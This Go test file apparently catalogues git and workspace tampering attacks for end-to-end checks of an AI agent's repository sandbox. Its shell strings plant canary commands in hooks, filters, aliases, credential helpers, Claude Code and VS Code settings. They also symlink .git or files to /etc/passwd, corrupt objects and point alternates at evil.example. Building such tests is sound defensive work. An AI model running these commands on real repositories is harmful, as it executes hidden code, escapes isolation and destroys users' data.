package e2e

// How git attacks may share a start.
const (
	alone    = iota // it spoils the git directory, or the tree, for the others
	together        // beside others, in the root of the tree
	below           // beside others, in a directory of its own
)

// configAttacks are keys of a configuration that name programs.
func configAttacks() []gitAttack {
	return []gitAttack{
		{together, "fsmonitor", `git config core.fsmonitor "$CANARY"`},
		{together, "hooks directory", `mkdir -p h; for x in pre-commit post-commit reference-transaction post-checkout post-merge fsmonitor-watchman pre-auto-gc post-index-change; do printf '#!/bin/sh\n%s' "$CANARY" > h/$x; chmod +x h/$x; done; git config core.hooksPath "$PWD/h"`},
		{together, "hooks directory in the tree", `mkdir .githooks; printf '#!/bin/sh\n%s' "$CANARY" > .githooks/post-checkout; chmod +x .githooks/post-checkout; git config core.hooksPath .githooks`},
		{together, "filter clean and smudge", `printf '* filter=evil\n' >> .gitattributes; git config filter.evil.clean "$CANARY; cat"; git config filter.evil.smudge "$CANARY; cat"`},
		{alone, "filter process", `printf '* filter=evil\n' > .gitattributes; git config filter.evil.process "$CANARY"`},
		{alone, "filter that is required", `printf '* filter=evil\n' > .gitattributes; git config filter.evil.clean false; git config filter.evil.required true`},
		{together, "filter by info/attributes", `mkdir -p .git/info; printf '* filter=evil\n' > .git/info/attributes; git config filter.evil.smudge "$CANARY; cat"; git config filter.evil.clean "$CANARY; cat"`},
		{together, "textconv", `printf '* diff=evil\n' >> .gitattributes; git config diff.evil.textconv "$CANARY"; git config diff.evil.command "$CANARY"; git config diff.evil.cachetextconv true`},
		{together, "external diff", `git config diff.external "$CANARY"; git config diff.tool evil; git config difftool.evil.cmd "$CANARY"; git config interactive.diffFilter "$CANARY"`},
		{together, "merge driver", `printf '* merge=evil\n' >> .gitattributes; git config merge.evil.driver "$CANARY"; git config merge.tool evil; git config mergetool.evil.cmd "$CANARY"`},
		{together, "transport programs", `git config core.sshCommand "$CANARY"; git config core.askPass "$CANARY"; git config core.gitProxy "$CANARY"; git config credential.helper "!$CANARY"; git config remote.origin.url "ext::$CANARY"; git config remote.origin.uploadpack "$CANARY"; git config protocol.allow always; git config protocol.ext.allow always`},
		{together, "url rewriting", `git config "url.ext::$CANARY .insteadOf" fd::; git config --add "url.ext::$CANARY .insteadOf" /; git config "url.ext::$CANARY .pushInsteadOf" /`},
		{together, "editor, pager, browser", `for k in core.editor core.pager sequence.editor pager.log pager.diff pager.status pager.show web.browser man.viewer help.browser; do git config $k "$CANARY"; done`},
		{together, "aliases", `for a in status log diff show add upload-pack rev-parse cat-file fetch; do git config alias.$a "!$CANARY"; done`},
		{together, "include", `printf '[core]\n\tfsmonitor = "%s"\n' "$CANARY" > evil.inc; git config include.path "$PWD/evil.inc"; git config "includeIf.gitdir:/.path" "$PWD/evil.inc"; git config "includeIf.onbranch:**.path" "$PWD/evil.inc"`},
		{together, "configuration of the home", `printf '[core]\n\tfsmonitor = "%s"\n\thooksPath = %s\n[alias]\n\tstatus = "!%s"\n' "$CANARY" "$PWD" "$CANARY" > ~/.gitconfig; mkdir -p ~/.config/git; cp ~/.gitconfig ~/.config/git/config; printf '* filter=evil\n' > ~/.config/git/attributes`},
		{alone, "configuration per worktree", `git config extensions.worktreeConfig true; git config core.repositoryFormatVersion 1; git config --worktree core.fsmonitor "$CANARY"; git config --worktree core.worktree /usr`},
		{together, "signatures", `git config commit.gpgSign true; git config tag.gpgSign true; git config gpg.program "$CANARY"; git config gpg.ssh.program "$CANARY"; git config gpg.ssh.defaultKeyCommand "$CANARY"; git config log.showSignature true; git config gpg.format ssh; git config user.signingKey x`},
		{together, "pack objects hook", `git config uploadpack.packObjectsHook "$CANARY"; git config uploadpack.allowAnySHA1InWant true; git config uploadpack.allowFilter true`},
		{together, "hidden refs", `git config uploadpack.hideRefs refs/; git config transfer.hideRefs refs/; git config --add uploadpack.hideRefs refs/heads`},
		{together, "alternate refs command", `git config core.alternateRefsCommand "$CANARY"; git config core.alternateRefsPrefixes refs/`},
		{together, "recent objects hook", `git config gc.recentObjectsHook "$CANARY"; git config gc.auto 1; git config maintenance.auto true; git config maintenance.strategy incremental`},
		{alone, "worktree elsewhere", `git config core.worktree /usr; git config core.bare true`},
		{alone, "promisor", `git config core.repositoryFormatVersion 1; git config extensions.partialClone evil; git config remote.evil.promisor true; git config remote.evil.url "ext::$CANARY"; git config remote.evil.partialCloneFilter blob:none; git config protocol.ext.allow always`},
		{together, "trace files", `for k in trace2.normalTarget trace2.eventTarget trace2.perfTarget; do git config $k "$OTHER/escaped"; git config --global $k "$OTHER/escaped"; done`},
		{alone, "unknown extension", `git config core.repositoryFormatVersion 1; git config extensions.evil true`},
		{alone, "nonsense in the configuration", `printf '[core\n\tbare = \n\0\377' > .git/config`},
		{alone, "endless include", `printf '[include]\n\tpath = config\n' >> .git/config`},
		{together, "templates and archives", `mkdir -p t/hooks; cp evil0.sh t/hooks/post-checkout; git config init.templateDir "$PWD/t"; git config tar.tgz.command "$CANARY"; git config sendemail.smtpServer "$EVIL"; git config notes.rewriteRef '*'`},
	}
}

// gitDirAttacks change the git directory itself.
func gitDirAttacks() []gitAttack {
	return []gitAttack{
		{alone, "hooks", `for x in pre-commit commit-msg prepare-commit-msg post-commit reference-transaction post-index-change post-checkout pre-receive update; do printf '#!/bin/sh\n%s; exit 1' "$CANARY" > .git/hooks/$x; chmod +x .git/hooks/$x; done`},
		{alone, ".git is a link to another repository", `mv .git /tmp/g; ln -s "$OTHER/.git" .git`},
		{alone, ".git is a link to itself", `mv .git /tmp/g; ln -s .git .git`},
		{alone, ".git is a file that points elsewhere", `mv .git /tmp/g; echo "gitdir: $OTHER/.git" > .git`},
		{alone, ".git is gone", `rm -rf .git`},
		{alone, ".git is a device", `mv .git /tmp/g; mkfifo .git`},
		{alone, ".git is the agent's own repository", `rm -rf .git; git init -q -b agent--evil; git config user.name x; git config user.email x@example.com; git add work.txt; git commit -qm other; git config core.fsmonitor "$CANARY"`},
		{alone, "objects are a link", `mv .git/objects /tmp/o; ln -s "$OTHER/.git/objects" .git/objects`},
		{alone, "refs are a link", `rm -rf .git/refs; ln -s "$OTHER/.git/refs" .git/refs`},
		{alone, "HEAD is a link", `rm .git/HEAD; ln -s "$OTHER/.git/HEAD" .git/HEAD`},
		{alone, "HEAD is nonsense", `echo "ref: ../../../../etc/passwd" > .git/HEAD`},
		{alone, "branch is a link", `rm -f .git/packed-refs; mkdir -p .git/refs/heads; rm -f .git/refs/heads/agent--evil; ln -s "$OTHER/.git/refs/heads/main" .git/refs/heads/agent--evil`},
		{alone, "common directory", `echo "$OTHER/.git" > .git/commondir`},
		{alone, "alternates", `echo "$OTHER/.git/objects" >> .git/objects/info/alternates`},
		{alone, "http alternates", `echo "http://evil.example/" > .git/objects/info/http-alternates`},
		{alone, "no alternates", `rm .git/objects/info/alternates`},
		{alone, "index is nonsense", `head -c 5000 /dev/urandom > .git/index`},
		{alone, "index is locked", `touch .git/index.lock .git/HEAD.lock .git/config.lock .git/packed-refs.lock .git/refs/heads/agent--evil.lock`},
		{alone, "index forgets", `git update-index --assume-unchanged main.go; git update-index --skip-worktree lib/lib.go; rm .git/index`},
		{alone, "grafts and shallow", `git rev-parse HEAD > .git/info/grafts; git rev-parse HEAD > .git/shallow`},
		{alone, "replaced objects", `git replace HEAD $(git commit-tree -m other HEAD^{tree}); git replace HEAD^{tree} $(git mktree </dev/null)`},
		{alone, "sparse", `git config core.sparseCheckout true; printf '/nothing\n' > .git/info/sparse-checkout; git config index.sparse true`},
		{alone, "detached", `git checkout -q --detach; git commit -q --allow-empty -m detached`},
		{alone, "another branch", `git checkout -q -b mine; git commit -q --allow-empty -m mine; git branch -D agent--evil`},
		{alone, "orphan history", `git checkout -q --orphan fresh; git commit -qm orphan; git branch -M agent--evil`},
		{alone, "conflict in the middle", `git checkout -q -b a; echo a > main.go; git commit -qam a; git checkout -q agent--evil; echo b > main.go; git commit -qam b; git merge a`},
		{alone, "packs of nonsense", `mkdir -p .git/objects/pack; head -c 4000 /dev/urandom > .git/objects/pack/pack-1111111111111111111111111111111111111111.pack; head -c 4000 /dev/urandom > .git/objects/pack/pack-1111111111111111111111111111111111111111.idx; head -c 100 /dev/urandom > .git/objects/info/commit-graph`},
		{alone, "packs with deltas that lie", `seq 1 3000 > a.txt; git add a.txt; git commit -qm a; seq 2 3001 > a.txt; git commit -qam b; git repack -qadf --depth=50; chmod u+w .git/objects/pack/*.pack; for p in .git/objects/pack/*.pack; do printf '\377\377\377\377' | dd of=$p bs=1 seek=$(($(stat -c %s $p) / 2)) conv=notrunc 2>/dev/null; done`},
		{alone, "a million refs", `id=$(git rev-parse HEAD); (echo '# pack-refs with: peeled fully-peeled sorted '; awk -v id=$id 'BEGIN { for (i = 0; i < 1000000; i++) printf "%s refs/heads/x/%07d\n", id, i }') > .git/packed-refs; git update-ref refs/heads/agent--evil $id`},
		{alone, "unreadable", `chmod -R 000 .git`},
		{alone, "refs of the host", `for r in refs/heads/main refs/tags/v1 refs/remotes/origin/main refs/stash refs/notes/commits refs/replace/x refs/bisect/bad; do mkdir -p .git/$(dirname $r); git rev-parse HEAD > .git/$r; done`},
	}
}

// nestedAttacks are repositories inside the tree.
func nestedAttacks() []gitAttack {
	return []gitAttack{
		{below, "nested repository", `git init -q sub; cd sub; git config user.name x; git config user.email x@example.com; git config core.fsmonitor "$CANARY"; git config core.hooksPath ../h; git commit -q --allow-empty -m x; cd ..`},
		{below, "nested empty repository", `git init -q sub; git -C sub config core.fsmonitor "$CANARY"; echo x > sub/x`},
		{below, "nested bare repository", `git init -q --bare sub; git -C sub config core.fsmonitor "$CANARY"; git -C sub config core.worktree /tmp`},
		{below, "bare repository made of files", `mkdir -p sub/objects sub/refs; echo 'ref: refs/heads/main' > sub/HEAD; touch sub/objects/x sub/refs/x; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "%s"\n' "$CANARY" > sub/config`},
		{alone, "the tree as a bare repository", `mkdir objects refs; touch objects/x refs/x; echo 'ref: refs/heads/main' > HEAD; printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "%s"\n\tworktree = .\n' "$CANARY" > config`},
		{below, "nested link", `mkdir sub; ln -s "$OTHER/.git" sub/.git; echo x > sub/x`},
		{below, "nested file that points elsewhere", `mkdir sub; echo "gitdir: $OTHER/.git" > sub/.git; echo x > sub/x`},
		{below, "nested repository in capitals", `git init -q sub; mv sub/.git sub/.GIT; git -C sub --git-dir=.GIT config core.fsmonitor "$CANARY"`},
		{below, "linked worktree", `git worktree add -q w; echo x > w/x; git -C w config core.fsmonitor "$CANARY"`},
		{alone, "submodule", `git init -q sub; cd sub; git config user.name x; git config user.email x@example.com; git commit -q --allow-empty -m x; cd ..; printf '[submodule "x"]\n\tpath = sub\n\turl = ext::sh -c "%s"\n\tupdate = !%s\n' "$CANARY" "$CANARY" > .gitmodules; git config submodule.x.update "!$CANARY"`},
		{alone, "submodule with the name of a hook", `printf '[submodule "../../hooks"]\n\tpath = sub\n\turl = ./evil\n' > .gitmodules; git init -q sub; git -C sub -c user.name=x -c user.email=x@y commit -q --allow-empty -m x`},
		{alone, "submodule with an option for a url", `printf '[submodule "x"]\n\tpath = x\n\turl = -u./evil0.sh\n' > .gitmodules`},
	}
}

// treeAttacks are files and objects.
func treeAttacks() []gitAttack {
	return []gitAttack{
		{alone, "attributes of every kind", `printf '* filter=lfs diff=lfs merge=lfs -text\n* ident export-subst\n*.go diff=evil filter=evil\n' > .gitattributes; mkdir sub; cp .gitattributes sub/; printf '[lfs]\n\turl = http://evil.example/\n' > .lfsconfig`},
		{alone, "an encoding that files do not have", `printf '*.go working-tree-encoding=UTF-16\n' > .gitattributes`},
		{alone, "links out of the tree", `ln -s /etc/passwd p; ln -s "$OTHER" o; ln -s ../../../.. up; ln -s "$OTHER/.git/hooks" hooks; ln -s .git/config c`},
		{alone, "a link in the way of a file", `rm -rf lib; ln -s "$OTHER" lib; git add -A; git commit -qm link; rm lib; mkdir lib; echo x > lib/main.go`},
		{alone, "settings of Claude Code", `mkdir -p .claude sub/.claude .CLAUDE; for d in .claude sub/.claude .CLAUDE; do printf '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"%s"}]}]}}' "$CANARY" > $d/settings.json; cp $d/settings.json $d/settings.local.json; done; git add -f -A .; git commit -qm settings`},
		{alone, "settings of Claude Code, deleted", `git rm -rqf .claude; git commit -qm gone`},
		{alone, "settings of Claude Code, a link", `rm -rf .claude; ln -s "$OTHER" .claude; git add -A -f; git commit -qm link`},
		{alone, "tree with .git in it", `id=$(cat evil0.sh | git hash-object -w --stdin); h=$(printf '100755 blob %s\tpost-checkout\n' $id | git mktree); g=$(printf '040000 tree %s\thooks\n' $h | git mktree); root=$( (git ls-tree HEAD; printf '040000 tree %s\t.git\n' $g) | git mktree); git update-ref HEAD $(git commit-tree -m evil -p HEAD $root)`},
		{alone, "tree with .git as other systems write it", `id=$(cat evil0.sh | git hash-object -w --stdin); g=$(printf '100644 blob %s\tconfig\n' $id | git mktree); root=$( (git ls-tree HEAD; printf '040000 tree %s\tGIT~1\n' $g) | git mktree); git update-ref HEAD $(git commit-tree -m evil -p HEAD $root)`},
		{alone, "tree that goes up", `id=$(cat evil0.sh | git hash-object -w --stdin); s=$(printf '100644 blob %s\tescaped\n' $id | git mktree); root=$( (git ls-tree HEAD; printf '040000 tree %s\t..\n' $s) | git mktree); git update-ref HEAD $(git commit-tree -m evil -p HEAD $root)`},
		{alone, "two entries of one name", `id=$(cat evil0.sh | git hash-object -w --stdin); l=$(printf "$OTHER" | git hash-object -w --stdin); printf '120000 A\0' > /tmp/t; root=$( (git ls-tree HEAD; printf '120000 blob %s\tlib\n' $l) | git mktree); git update-ref HEAD $(git commit-tree -m evil -p HEAD $root)`},
		{alone, "modules file that is a link", `id=$(printf main.go | git hash-object -w --stdin); root=$( (git ls-tree HEAD; printf '120000 blob %s\t.gitmodules\n' $id) | git mktree); git update-ref HEAD $(git commit-tree -m evil -p HEAD $root)`},
		{alone, "names that terminals obey", `touch "$(printf 'a\033]0;evil\007b')" "$(printf 'c\nd')" -- '-rf' '--upload-pack=evil0.sh' '$(evil0.sh)' '` + "`evil0.sh`" + `'; git add -A; git commit -qm "$(printf 'subject\033[2J\n\nbody')"`},
		{alone, "what runs on the host later", `mkdir -p .vscode .github/workflows; echo "$CANARY" > .envrc; printf '{"version":"2.0.0","tasks":[{"label":"x","command":"%s","runOptions":{"runOn":"folderOpen"}}]}' "$CANARY" > .vscode/tasks.json; printf 'all:\n\t%s\n' "$CANARY" > Makefile; echo on > .github/workflows/x.yml`},
		{alone, "author of another's", `git config user.name "Evil"; git config user.email evil@example.com; GIT_AUTHOR_NAME="$(printf 'x\n')" git commit -q --allow-empty -m x`},
	}
}
